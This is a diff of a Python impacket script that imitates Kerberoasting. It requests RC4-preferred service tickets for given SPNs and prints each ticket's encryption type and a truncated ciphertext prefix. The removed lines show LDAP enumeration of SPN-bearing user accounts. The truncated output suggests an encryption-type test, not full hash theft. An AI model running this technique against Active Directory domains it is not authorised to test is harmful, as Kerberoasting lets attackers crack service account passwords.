@@ -1,14 +1,10 @@
 #!/usr/bin/python3
-"""Collects tickets as roasting tools do it (impacket): finds every user account with an SPN, asks for an RC4 ticket to each.
-
-  kerberoast.py DOMAIN/user PASSWORD DC
-"""
+"""Collects tickets as roasting tools do it, with impacket, which asks for RC4 first: kerberoast.py DOMAIN/user PASSWORD DC SPN..."""
 import sys
 from binascii import hexlify
 
 from impacket.krb5 import asn1, constants, crypto, kerberosv5
 from impacket.krb5.types import Principal
-from impacket.ldap import ldap, ldapasn1
 from pyasn1.codec.der import decoder, encoder
 from pyasn1.type.univ import noValue
 
@@ -36,17 +32,12 @@ def send_with_checksum(message, *ends):
 
 
 kerberosv5.sendReceive = send_with_checksum
-name, password, dc = sys.argv[1:]
+name, password, dc, *spns = sys.argv[1:]
 domain, user = name.split("/")
 principal = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
 tgt, cipher, _, session_key = kerberosv5.getKerberosTGT(principal, password, domain, b"", b"", b"", dc)
-directory = ldap.LDAPConnection(f"ldap://{dc}", ",".join(f"dc={part}" for part in domain.split(".")), None)
-directory.kerberosLogin(user, password, domain, kdcHost=dc, TGT={"KDC_REP": tgt, "cipher": cipher, "sessionKey": session_key}, useCache=False)
-found = directory.search(searchFilter="(&(servicePrincipalName=*)(objectCategory=person)(!(sAMAccountName=krbtgt)))", attributes=["servicePrincipalName"])
-spns = [str(value) for entry in found if isinstance(entry, ldapasn1.SearchResultEntry) for attribute in entry["attributes"] for value in attribute["vals"]]
 for spn in spns:
     service = Principal(spn, type=constants.PrincipalNameType.NT_SRV_INST.value)
     answer, *_ = kerberosv5.getKerberosTGS(service, domain, dc, tgt, cipher, session_key)
     ticket = decoder.decode(answer, asn1Spec=asn1.TGS_REP())[0]["ticket"]["enc-part"]
     print(spn, int(ticket["etype"]), hexlify(bytes(ticket["cipher"]))[:8].decode())
-sys.exit(0 if spns else 1)
